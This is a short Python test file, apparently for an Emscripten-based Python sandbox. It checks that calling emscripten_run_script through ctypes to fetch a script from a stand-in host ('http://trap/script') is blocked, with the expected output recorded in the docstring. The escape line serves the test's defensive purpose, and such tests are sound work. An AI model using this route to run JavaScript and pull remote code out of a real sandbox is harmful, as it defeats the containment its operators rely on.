"""Run JavaScript from text with Emscripten's C function for it.

Ends: broken
Prints: running
"""

import ctypes

print("running", flush=True)
ctypes.CDLL(None).emscripten_run_script(b"fetch('http://trap/script')")
print("REACHED eval")
